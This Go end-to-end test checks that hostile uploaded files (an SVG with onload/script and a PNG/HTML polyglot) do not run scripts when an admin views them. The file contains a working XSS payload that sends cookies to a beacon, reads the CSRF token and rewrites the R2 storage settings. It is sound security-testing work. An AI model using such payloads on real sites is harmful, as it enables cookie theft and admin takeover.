package e2e_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/magicads/r2storage/host/results"
)

// hostileScript is what an attacker's file tries once an admin opens it: read
// the CSRF cookie, move the R2 settings, and tell the attacker it ran.
const hostileScript = `(async () => {
  new Image().src = BEACON + '/ran?cookie=' + encodeURIComponent(document.cookie);
  const m = document.cookie.match(/magicads_csrf=([^;]+)/);
  const h = {'Content-Type': 'application/json', 'Accept': 'application/json', 'X-CSRF-Token': m ? m[1] : ''};
  const cur = await (await fetch('/api/v1/admin/plugins/cloudflare-r2/settings', {headers: h})).json();
  cur.values.key_prefix = 'pwned';
  await fetch('/api/v1/admin/plugins/cloudflare-r2/settings', {method: 'PUT', headers: h, body: JSON.stringify({values: cur.values})});
  new Image().src = BEACON + '/done';
})()`

// TestHostileResultRunsNoScript: an admin who views the results page with a
// hostile file among the results, and opens each file, runs none of it, and
// the R2 settings are unchanged afterwards. The files are an SVG recorded
// before uploads were checked by content (written straight into the
// database and results disk) and a PNG with HTML and a script after its
// header (accepted: it is a PNG).
func TestHostileResultRunsNoScript(t *testing.T) {
	s := newStack(t, "extended")
	var hits atomic.Int64
	beacon := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		t.Logf("beacon: %s", r.URL)
	}))
	t.Cleanup(beacon.Close)
	script := strings.ReplaceAll(hostileScript, "BEACON", fmt.Sprintf("%q", beacon.URL))

	ctx := browser(t)
	sh := newShots(t)
	base := s.host.URL
	signInAndInstall(t, ctx, sh, s)
	bg := context.Background()
	if fields, err := s.app.Providers.SaveSettings(bg, "cloudflare-r2", map[string]any{
		"access_key_id": s.s3.AccessKey, "secret_access_key": s.s3.SecretKey, "bucket": bucketName,
		"endpoint": s.s3.Endpoint, "public_url": s.publicURL, "key_prefix": "magicads", "use_path_style": true,
	}); err != nil || len(fields) > 0 {
		t.Fatalf("saving the R2 settings: %v %v", fields, err)
	}
	before, err := s.app.Providers.Settings(bg, "cloudflare-r2")
	if err != nil {
		t.Fatal(err)
	}

	// The SVG a host before content checks would have stored and served.
	svg := `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="` + strings.ReplaceAll(script, `"`, "&quot;") + `"><rect width="64" height="64" fill="red"/><script>` + script + `</script></svg>`
	legacy := "0b7c1d1e-7f1a-4c36-9a52-9d1b6f3a7e01"
	path := "images/attacker/" + legacy + ".svg"
	file := filepath.Join(s.dataDir, "results", filepath.FromSlash(path))
	if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(file, []byte(svg), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := s.app.DB.ExecContext(bg, `INSERT INTO results (id, path, content_type, size, sha256, storage, local_present, deleted, created_at, updated_at)
		VALUES ($1, $2, 'image/svg+xml', $3, $4, 'local', $5, $6, $7, $7)`, legacy, path, len(svg), strings.Repeat("0", 64), true, false,
		time.Now().UTC().Format("2006-01-02 15:04:05.000000+00:00")); err != nil {
		t.Fatalf("recording the legacy SVG: %v", err)
	}
	// A PNG whose bytes after the header are an HTML page with the script.
	poly := "\x89PNG\r\n\x1a\n<html><body><script>" + script + "</script></body></html>"
	res, err := s.app.Results.Finalize(bg, results.Upload{Kind: "images", Generator: "attacker"}, strings.NewReader(poly))
	if err != nil {
		t.Fatalf("finalizing the polyglot PNG: %v", err)
	}

	must(t, ctx, sh, "results page", chromedp.Navigate(base+"/app/results"), chromedp.WaitVisible(chromedp.ID("generate")))
	waitTrue(t, ctx, sh, "the hostile results to be listed", `document.querySelectorAll('img.result-image').length >= 2`)
	time.Sleep(time.Second)
	sh.take(ctx, "hostile-results-listed")
	for _, id := range []string{legacy, res.ID} {
		// The legacy SVG is served as an attachment: the browser downloads it
		// instead of showing it, and the navigation ends "aborted".
		if _, err := chromedp.Run(ctx, chromedp.Navigate(base+"/api/v1/results/"+id+"/content")); err != nil && !strings.Contains(err.Error(), "ERR_ABORTED") {
			t.Fatalf("opening %s: %v", id, err)
		}
		time.Sleep(1500 * time.Millisecond)
		sh.take(ctx, "opened-"+id)
	}
	// Back on the console, nothing changed.
	must(t, ctx, sh, "results page again", chromedp.Navigate(base+"/app/results"), chromedp.WaitVisible(chromedp.ID("generate")))
	time.Sleep(500 * time.Millisecond)
	if n := hits.Load(); n != 0 {
		t.Fatalf("a hostile result's script ran: the beacon got %d requests", n)
	}
	after, err := s.app.Providers.Settings(bg, "cloudflare-r2")
	if err != nil {
		t.Fatal(err)
	}
	if fmt.Sprint(after.Values) != fmt.Sprint(before.Values) {
		t.Fatalf("the R2 settings changed:\nbefore %v\nafter  %v", before.Values, after.Values)
	}
}
